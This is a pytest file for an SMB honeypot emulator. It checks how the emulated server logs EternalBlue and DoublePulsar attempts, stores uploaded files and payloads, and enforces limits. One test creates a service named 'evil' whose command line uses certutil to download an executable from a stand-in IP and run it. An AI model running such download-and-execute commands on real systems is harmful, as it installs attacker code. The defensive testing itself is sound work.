"""SMB: both dialects, EternalBlue's dialogue, DoublePulsar's payloads, files of every size, and the limits."""

from __future__ import annotations

import hmac
import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from eudaemon.events.catalogue import (
    CommandEntered,
    ExploitRecognised,
    FileRequested,
    LoginTried,
    SmbClientIdentified,
)
from eudaemon.protocols._base import Claim, HalfClosed, Keep
from eudaemon.protocols._dcerpc import RpcHost
from eudaemon.protocols._ntlm_v1 import nt_hash
from eudaemon.protocols._windows import server_of
from eudaemon.protocols.smb import Smb, connection, doublepulsar, opens, room, service_pipes, smb2, transactions
from eudaemon.protocols.smb.doublepulsar import key_of, program_in, xored
from eudaemon.testing.script import Table, play, visit
from eudaemon.wire import PeerError, Purse
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed
from payload.servers import SIZES, content
from protocols import smb_client as client
from protocols.smb_client import Client2, framed, head1, unframed
from protocols.test__dcerpc import SRVSVC, SVCCTL, creation, pointed

HOST = Host.from_seed(Seed(b"test"))
INSUFFICIENT, NOT_IMPLEMENTED, INVALID = 0xC000_0205, 0xC000_0002, 0xC000_000D
SIGNED_UP_TO = 48


def host_with(*, implant: bool) -> Host:
    """Return a host that has DoublePulsar from the start, or has not."""
    hosts = (Host.from_seed(Seed(b"%d" % number)) for number in range(64))
    return next(host for host in hosts if (host.seed.number("doublepulsar", 2) == 0) is implant)


def talk(*, host: Host = HOST, memory: Memory | None = None, bytes_max: int = 32 << 20, port: int = 445) -> Table:
    return Table(Smb(visit(host=host, port=port, memory=memory, purse=Purse(bytes_max)))).open()


def entered(table: Table) -> Table:
    """Let nobody in, at IPC$."""
    for message in client.OPENING1:
        assert head1(unframed(table.say(message))[0])[1] == 0
    return table


def exploits(table: Table) -> list[tuple[str, str]]:
    return [(fact.name, fact.command) for fact in table.facts if isinstance(fact, ExploitRecognised)]


def ping(table: Table, opcode: int = 0x23, body: bytes = bytes(12)) -> tuple[int, int, bytes]:
    """Return status, number and signature of what DoublePulsar answers."""
    (answer,) = unframed(table.say(client.pulsar(opcode, body)))
    _, status, _, _, mid, signature = head1(answer)
    return status, mid, signature


# --- SMB 1 ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("split", [0, 1])
def test_what_a_scanner_of_2017_sees(split: int) -> None:
    table = talk()
    server = server_of(HOST)
    (answer,) = unframed(table.say(client.negotiate(), split))
    assert answer[32] == 17
    assert answer[33:36] == b"\1\0\3"  # the second dialect, users' security with challenges
    assert server.name.encode("utf-16-le") in answer
    (answer,) = unframed(table.say(client.nobody(), split))
    assert head1(answer)[1::2][:2] == (0, 0x800)
    assert server.system.encode("utf-16-le") in answer
    (answer,) = unframed(table.say(client.connect("\\\\x\\IPC$"), split))
    assert b"IPC\0" in answer
    assert head1(unframed(table.say(client.look(), split))[0])[:2] == (0x25, INSUFFICIENT)
    assert exploits(table) == [("ms17-010-check", "")]
    assert SmbClientIdentified((), "Windows 2000 2195", "Windows 2000 5.0") in table.facts
    assert not [fact for fact in table.facts if isinstance(fact, LoginTried)]


def test_requests_may_be_chained() -> None:
    """A login and a share in one message, as clients of old do it: each answer says where the next one is."""
    table = talk()
    table.say(client.negotiate())
    first, second = (bytearray(message[4:]) for message in (client.nobody(), client.connect("\\\\x\\IPC$", uid=0)))
    first += bytes(len(first) % 2)
    first[33:37] = struct.pack("<BBH", 0x75, 0, len(first))
    (answer,) = unframed(table.say(framed(bytes(first + second[32:]))))
    assert head1(answer)[:4] == (0x73, 0, 0x800, 0x800)
    command, _, at = struct.unpack_from("<BBH", answer, 33)
    assert (command, at % 2, answer[at]) == (0x75, 0, 3)
    assert answer[at + 9 :].startswith(b"IPC\0")
    assert head1(unframed(table.say(client.look()))[0])[1] == INSUFFICIENT


def test_names_behind_netbios() -> None:
    script = r"""
    > \x81\0\0\x44 CKFDENECFDEFFCFGEFFCCACACACACACA\0 EIFAFEEBEEENEJEOCACACACACACACACA\0
    < \x82\0\0\0
    > \x85\0\0\0
    > GET / HTTP/1.0\r\n\r\n
    / over
    """
    assert play(Smb, script, given=visit(host=HOST, port=139)).fault


def test_who_offers_smb_2_in_smb_1_gets_it() -> None:
    for names, dialect in (
        ((b"NT LM 0.12", b"SMB 2.002", b"SMB 2.???"), 0x02FF),
        ((b"NT LM 0.12", b"SMB 2.002"), 0x0202),
    ):
        (answer,) = unframed(talk().say(client.negotiate(dialects=(b"NT LM 0.12", *names))))
        assert answer[:4] == b"\xfeSMB"
        assert int.from_bytes(answer[68:70], "little") == dialect


def test_no_two_installations_are_alike() -> None:
    said = {talk(host=Host.from_seed(Seed(b"%d" % n))).say(client.negotiate(0xC801)) for n in range(12)}
    assert len(said) == 12


# --- EternalBlue and DoublePulsar ----------------------------------------------------------------------


@pytest.mark.parametrize("split", [0, 7])
def test_eternalblue_is_kept_and_leaves_what_its_users_look_for(split: int) -> None:
    memory = Memory()
    table = entered(talk(host=host_with(implant=False), memory=memory))
    assert ping(table)[:2] == (NOT_IMPLEMENTED, 0x41), "not there yet"
    shot = content(66_512)
    messages = client.blue(shot)
    assert head1(unframed(table.say(messages[0], split))[0])[:2] == (0xA0, 0), "an answer in between"
    for message in messages[1:-1]:
        assert table.say(message, split) == b""
    assert head1(unframed(table.say(messages[-1], split))[0])[:2] == (0x33, INVALID)
    assert [(keep.origin, keep.data, keep.partial) for keep in table.kept] == [("payload", shot, False)]
    assert exploits(table)[-1][0] == "eternalblue"
    later = entered(talk(host=host_with(implant=False), memory=memory))  # a connection of its own, as they do
    assert ping(later)[:2] == (NOT_IMPLEMENTED, 0x51)
    assert ping(later, 0x77)[:2] == (NOT_IMPLEMENTED, 0x51)
    assert ping(later)[:2] == (NOT_IMPLEMENTED, 0x41), "it was told to leave"


def test_what_breaks_off_is_kept_as_a_part() -> None:
    table = entered(talk())
    shot = content(20_000)
    for message in client.blue(shot)[:-1]:
        table.say(message)
    table.end()
    (keep,) = table.kept
    assert (keep.origin, keep.partial, len(keep.data)) == ("payload", True, len(shot))
    assert keep.data.startswith(shot[: 0x3D0 + 4096 * 3])
    filler = talk()  # what fills the kernel's memory meanwhile, and is never whole
    filler.say(b"\0\0\xff\xf7\xfeSMB" + content(5000))
    filler.end()
    assert filler.kept == [Keep(b"\xfeSMB" + content(5000), "payload", "smb", partial=True)]


def program(size: int) -> bytes:
    return (b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + content(size))[:size]


@pytest.mark.parametrize("size", [1, 4095, 4096, 4097, 65_536, 1_500_000])
def test_a_payload_in_pieces_is_put_together(size: int) -> None:
    table = entered(talk(host=host_with(implant=True)))
    seed = int.from_bytes(ping(table)[2][:4], "little")
    for message in client.pieces(content(size), seed):
        assert head1(unframed(table.say(message))[0])[4] == 0x51
    assert [(keep.origin, keep.data) for keep in table.kept] == [("payload", content(size))]
    assert table.room.visit.purse.bytes_taken == 0


def test_a_program_in_a_payload_is_kept_without_what_starts_it() -> None:
    table = entered(talk(host=host_with(implant=True)))
    seed = int.from_bytes(ping(table)[2][:4], "little")
    stub = b"\x31\xc9" * 3000 + b"MZ, not a program"
    for message in client.pieces(stub + program(50_000), seed):
        table.say(message)
    assert [(keep.origin, keep.data) for keep in table.kept] == [("payload", stub), ("upload", program(50_000))]
    assert exploits(table)[-1] == ("doublepulsar", f"execute {len(stub) + 50_000} bytes")
    assert program_in(content(100_000)) == -1


def test_the_later_version_answers_elsewhere() -> None:
    table = entered(talk(host=host_with(implant=True)))
    (answer,) = unframed(table.say(client.pulsar(0xF0)))
    assert head1(answer)[4] == 0x41
    assert answer[22:24] == b"\x11\0"
    (answer,) = unframed(table.say(client.pulsar(0xF2)))
    assert answer[22:24] == b"\x21\0", "numbers that are none"


def test_what_does_not_fit_together_is_told_so() -> None:
    table = entered(talk(host=host_with(implant=True)))
    seed = int.from_bytes(ping(table)[2][:4], "little")
    key = key_of(seed).to_bytes(4, "little")
    most = doublepulsar.PAYLOAD_BYTES_MAX
    cases = (((most, 4, 0), 0x51), ((most + 1, 4, 0), 0x61), ((0, 0, 0), 0x61), ((8, 16, 0), 0x61), ((16, 8, 12), 0x61),
             ((64, 9, 0), 0x61))  # fmt: skip
    for numbers, mid in cases:
        body = xored(struct.pack("<III", *numbers), key) + bytes(8)
        assert ping(table, 0xC8, body)[1] == mid, numbers
    assert ping(table, 0xC8, b"short")[1] == 0x61
    poor = entered(talk(host=host_with(implant=True), bytes_max=5000))
    body = xored(struct.pack("<III", 6000, 4, 0), key) + bytes(4)
    assert ping(poor, 0xC8, body)[1] == 0x71, "no memory"
    for _ in range(doublepulsar.PAYLOADS_MAX):
        assert ping(table, 0xC8, xored(struct.pack("<III", 4, 4, 0), key) + bytes(4))[1] == 0x51
    assert ping(table, 0xC8, xored(struct.pack("<III", 4, 4, 0), key) + bytes(4))[1] == 0x71
    assert len(table.kept) == doublepulsar.PAYLOADS_MAX


# --- SMB 2 ------------------------------------------------------------------------------------------


def somebody(table: Table, user: str = "Administrator", password: str = "123456", share: str = "C$") -> Client2:
    made = Client2(table)
    assert made.enter(user, password) == 0
    assert made.connect(f"\\\\192.0.2.1\\{share}") == 0
    return made


@pytest.mark.parametrize("size", SIZES)
def test_a_file_of_any_size_is_kept_byte_for_byte(size: int) -> None:
    table = talk()
    peer = somebody(table)
    status, file = peer.create("Windows\\x.exe")
    assert status == 0
    data = content(size)
    for at in range(0, size, 65_521):
        assert peer.write(file, data[at : at + 65_521], at) == 0
    assert peer.close(file) == 0
    assert table.kept == [Keep(data, "upload", "C$\\Windows\\x.exe")]
    assert FileRequested("write", "C$\\Windows\\x.exe") in table.facts


def test_requests_in_one_message_may_mean_the_file_of_the_one_before() -> None:
    """As Windows looks at a file: open, ask, close, in one message."""
    table = talk()
    peer = somebody(table)
    name = "Windows\\win.ini".encode("utf-16-le")
    same = b"\xff" * 16
    requests = [
        client.smb2(
            5, struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, 0x80, 0, 7, 1, 0, 120, len(name), 0, 0) + name
        ),
        client.smb2(0x10, struct.pack("<HBBIHHIII16s", 41, 1, 5, 24, 0, 0, 0, 0, 0, same)),
        client.smb2(6, struct.pack("<HHI16s", 24, 1, 0, same)),
    ]
    whole = b""
    for number, request in enumerate(requests):
        message = bytearray(request[4:].ljust(-(-len(request[4:]) // 8) * 8, b"\0"))
        message[16:20] = struct.pack("<I", 4 if number else 0)
        message[20:24] = struct.pack("<I", len(message) if number < 2 else 0)
        message[36:48] = struct.pack("<IQ", peer.tree, peer.session) if not number else b"\xff" * 12
        whole += message
    (said,) = unframed(table.say(framed(bytes(whole))))
    found = []
    while said:
        command, status, _, _ = client.head2(said)
        size = int.from_bytes(said[20:24], "little") or len(said)
        found.append((command, status))
        if command == 0x10:
            assert int.from_bytes(said[80:88], "little") > 50, "its size"
        said = said[size:]
    assert found == [(5, 0), (0x10, 0), (6, 0)]


@pytest.mark.parametrize("split", [1, 13])
def test_pieces_of_messages_make_no_difference_to_files(split: int) -> None:
    table = talk()
    peer = somebody(table)
    _, file = peer.create("a")
    assert peer.write(file, content(4097), 0, split) == 0
    assert peer.read(file, 10, 4090) == (0, content(4097)[4090:])
    assert peer.read(file, 10, 5000)[0] == 0xC000_0011
    table.end()
    assert table.kept == [Keep(content(4097), "upload", "C$\\a", partial=True)], "nobody said that it is whole"


def test_who_gets_where() -> None:
    for user, password, status in (
        ("Administrator", "wrong", 0xC000_006D), ("guest", "", 0), ("guest", "x", 0xC000_006D),
        ("nobody", "123456", 0xC000_006D),
    ):  # fmt: skip
        peer = Client2(talk())
        assert peer.enter(user, password) == status
    peer = Client2(talk())
    assert peer.enter("guest", "") == 0
    assert peer.connect("\\\\x\\C$") == 0xC000_0022
    assert peer.connect("\\\\x\\nothing") == 0xC000_00CC
    assert peer.connect(f"\\\\x\\{server_of(HOST).share}") == 0
    assert peer.create("..\\..\\a")[0] == 0xC000_0033
    assert peer.create("no\\such\\place")[0] == 0xC000_003A
    assert peer.create("a", disposition=1)[0] == 0xC000_0034
    assert peer.create("A")[0] == 0
    assert peer.create("a", disposition=2)[0] == 0xC000_0035, "capitals make no other name"


def test_an_answer_is_signed_whose_request_is() -> None:
    table = talk()
    peer = Client2(table)
    table.say(client.negotiate2(0x0202, 0x0210))
    status, body = peer.ask(1, client.login2(client.hello())[4 + 64 :])
    assert status == 0xC000_0016
    challenge = body[8:][24:32]
    token = client.proof(challenge, "Administrator", "123456")
    said = table.say(client.login2(token, peer.session))
    (answer,) = unframed(said)
    assert answer[16] & 8
    key = hmac.digest(nt_hash("123456"), "ADMINISTRATORLAB".encode("utf-16-le"), "md5")
    at = token.index(b"\1\1" + bytes(6))
    base = hmac.digest(key, token[at - 16 : at], "md5")
    plain = answer[:SIGNED_UP_TO] + bytes(16) + answer[64:]
    assert hmac.digest(base, plain, "sha256")[:16] == answer[SIGNED_UP_TO:64]


def test_limits() -> None:
    table = talk()
    peer = somebody(table)
    for number in range(connection.OPENS_MAX):
        assert peer.create(f"f{number}")[0] == 0
    assert peer.create("one-more")[0] == 0xC000_011F
    for _ in range(connection.TREES_MAX - 1):
        assert peer.connect("\\\\x\\C$") == 0
    assert peer.connect("\\\\x\\C$") == 0xC000_009A
    table = talk()
    for _ in range(connection.LOGINS_MAX // 2):
        assert Client2(table).enter("nobody", "wrong") == 0xC000_006D
    assert Client2(table).ask(1, client.login2(client.hello())[4 + 64 :])[0] == INVALID
    for past in (0, 1):
        table = talk(bytes_max=64 << 20)
        table.say(b"\0" + (room.MESSAGE_BYTES_MAX + past).to_bytes(3, "big"))
        assert bool(table.fault) == bool(past)
    table = talk()
    echo = client.smb2(0x0D, struct.pack("<HH", 4, 0))
    one = echo[4:]
    related = one[:20] + (72).to_bytes(4, "little") + one[24:] + bytes(4)
    for past in (0, 1):
        table = talk()
        table.say(framed(related * (smb2.REQUESTS_MAX - 1 + past) + one))
        assert bool(table.fault) == bool(past)
    for total, status in ((transactions.TOTAL_BYTES_MAX, 0), (transactions.TOTAL_BYTES_MAX + 1, INSUFFICIENT)):
        table = entered(talk())
        shot = client.blue(bytes(total + 100))[0]
        words = bytearray(shot)
        words[4 + 33 + 3 : 4 + 33 + 11] = struct.pack("<II", 30, total - 30)
        assert head1(unframed(table.say(bytes(words)))[0])[1] == status
    table = entered(talk())
    for mid in range(transactions.PENDING_MAX + 1):
        said = table.say(client.transaction(0x32, (1,), b"", b"x", total=100, mid=mid))
        assert head1(unframed(said)[0])[1] == (0 if mid < transactions.PENDING_MAX else INSUFFICIENT)


def test_a_pipe_that_nobody_reads_ends_the_session() -> None:
    table = talk()
    peer = somebody(table, share="IPC$")
    status, pipe = peer.create("srvsvc")
    assert status == 0
    assert peer.create("no-such-pipe")[0] == 0xC000_0034
    call = client.request(15, struct.pack("<II", 0, 1) + struct.pack("<IIIIIII", 1, 1, 0x20000, 0, 0, 0xFFFF_FFFF, 0))
    assert peer.write(pipe, client.bind("4b324fc8-1670-01d3-1278-5a47bf6ee188", 3)) == 0
    body = struct.pack("<HHIQ16sIIHHI", 49, 112, len(call) * 400, 0, pipe, 0, 0, 0, 0, 0) + call * 400
    written = client.smb2(9, body, session=peer.session, tree=peer.tree)
    for _ in range(opens.UNREAD_BYTES_MAX // 100_000):
        table.say(written)
    assert table.fault


def test_who_leaves_is_waited_for_until_its_commands_have_run() -> None:
    table = talk()
    peer = somebody(table, share="IPC$")
    _, pipe = peer.create("svcctl")
    peer.call(pipe, client.bind(SVCCTL, 2))
    manager = peer.call(pipe, client.request(15, pointed("x") + bytes(4) + struct.pack("<I", 0xF003F)))[1][24:44]
    path = "cmd /c certutil -urlcache -f http://198.51.100.7/a C:\\a.exe & C:\\a.exe & bitsadmin /x"
    made = peer.call(pipe, client.request(12, creation(manager, "evil", path)))[1][24:]
    peer.call(pipe, client.request(19, made[4:24] + bytes(8)))
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/a"]
    table.tell(HalfClosed(table.at_s))
    assert not table.over
    table.answer("ok", program(1000))
    assert table.over
    table.end()
    assert [fact.line for fact in table.facts if isinstance(fact, CommandEntered)][1:] == [path.removeprefix("cmd /c ")]
    assert not table.fault


def test_a_pipe_of_their_own_holds_so_much() -> None:
    for past in (0, 1):
        given = visit(host=HOST)
        pipe = service_pipes.ServicePipe("theirs", RpcHost(given, server_of(HOST)))
        assert list(pipe.write(bytes(service_pipes.HEARD_BYTES_MAX - 1), 0.0)) == []
        if past:
            with pytest.raises(PeerError):
                list(pipe.write(bytes(2), 0.0))
        else:
            assert list(pipe.write(b"x", 0.0)) == []
        (keep,) = pipe.kept()
        assert isinstance(keep, Keep)
        assert len(keep.data) == service_pipes.HEARD_BYTES_MAX - past
        assert given.purse.bytes_taken == 0


class Noted(Table):
    """A table at which every word of the client is noted."""

    def say(self, data: bytes, split: int = 0) -> bytes:
        words.append(data)
        return super().say(data, split)


words: list[bytes] = []


def conversation() -> list[bytes]:
    """Return what a client says that does a little of everything, in SMB 2 and over pipes."""
    words.clear()
    peer = somebody(Noted(Smb(visit(host=HOST, port=445))).open())
    _, file = peer.create("Windows\\x.exe")
    peer.write(file, b"hello")
    peer.read(file, 10)
    for kind, number in ((1, 18), (1, 4), (2, 5), (2, 1), (3, 0)):
        peer.ask(0x10, struct.pack("<HBBIHHIII16s", 41, kind, number, 4096, 0, 0, 0, 0, 0, file))
    name = struct.pack("<B7x8xI", 1, 8) + "y.ex".encode("utf-16-le")
    peer.ask(0x11, struct.pack("<HBBIHHI16s", 33, 1, 10, len(name), 96, 0, 0, file) + name)
    peer.ask(0x11, struct.pack("<HBBIHHI16s", 33, 1, 20, 8, 96, 0, 0, file) + bytes(8))
    peer.close(file)
    _, folder = peer.create("Windows", options=1, disposition=1, access=1)
    for number in (37, 3, 12):
        peer.ask(0x0E, struct.pack("<HBBI16sHHI", 33, number, 1, 0, folder, 96, 2, 65_536) + b"*\0")
    peer.connect("\\\\x\\IPC$")
    for service, interface, version in (("svcctl", SVCCTL, 2), ("srvsvc", SRVSVC, 3)):
        _, pipe = peer.create(service)
        peer.call(pipe, client.bind(interface, version))
        if service == "svcctl":
            manager = peer.call(pipe, client.request(15, pointed("x") + bytes(8)))[1][24:44]
            made = peer.call(pipe, client.request(12, creation(manager, "evil", "cmd /c echo a > C:\\a")))[1][28:48]
            peer.call(pipe, client.request(19, made + bytes(8)))
        else:
            peer.call(pipe, client.request(15, bytes(4) + struct.pack("<IIIIIII", 1, 1, 0x20000, 0, 0, 9999, 0)))
            peer.call(pipe, client.request(21, bytes(4) + struct.pack("<I", 101)))
    assert not peer.table.fault
    return [*words, *client.OPENING1, client.look(), client.pulsar(0x23), *client.blue(bytes(6000))]


CONVERSATION = conversation()
changes = st.lists(st.tuples(st.integers(0, 99), st.integers(4, 400), st.binary(max_size=5)), min_size=1, max_size=4)


@settings(max_examples=150, deadline=None)
@given(changes)
def test_a_conversation_in_which_bytes_differ_is_no_fault_of_ours(changed: list[tuple[int, int, bytes]]) -> None:
    said = CONVERSATION.copy()
    for number, at, data in changed:
        message = bytearray(said[number % len(said)])
        at = min(at, len(message))
        message[at : at + (len(data) or 1)] = data
        said[number % len(said)] = framed(bytes(message[4:]))
    table = talk(bytes_max=4 << 20)
    for message in said:
        table.say(message)
    table.end()
    assert 0 <= table.room.visit.purse.bytes_taken <= 4 << 20


def test_whose_conversation_it_is() -> None:
    for first, claim in ((b"\0", Claim.UNSURE), (b"\0\0\0\x85\xffSM", Claim.UNSURE), (b"\0\0\0\x85\xffSMB", Claim.YES),
                         (b"\0\0\0\x85\xfeSMB", Claim.YES), (b"\x81\0\0\x44", Claim.YES), (b"\x81\0\0\x45", Claim.NO),
                         (b"\0\0\0\x85abcd", Claim.NO), (b"GET /", Claim.NO)):  # fmt: skip
        assert Smb.claim(first) is claim, first


def test_the_next_connection_finds_what_one_left() -> None:
    memory = Memory()
    first = somebody(talk(memory=memory))
    _, file = first.create("Windows\\Temp\\x.exe")
    first.write(file, b"MZ and more")
    second = somebody(talk(memory=memory))
    assert second.create("Windows\\Temp\\x.exe", access=0x80, disposition=1)[0] != 0  # not closed yet
    first.close(file)
    status, found = second.create("Windows\\Temp\\x.exe", access=0x0012_0089, disposition=1)
    assert status == 0
    assert second.read(found, 100) == (0, b"MZ and more")
    _, unclosed = first.create("Windows\\Temp\\y")
    first.write(unclosed, b"y")
    first.table.end()
    third = somebody(talk(memory=memory))
    assert third.create("Windows\\Temp\\y", access=0x0012_0089, disposition=1)[0] == 0
    assert somebody(talk()).create("Windows\\Temp\\y", access=0x0012_0089, disposition=1)[0] != 0
    assert not [keep for keep in third.table.kept if keep.name.endswith("x.exe")]
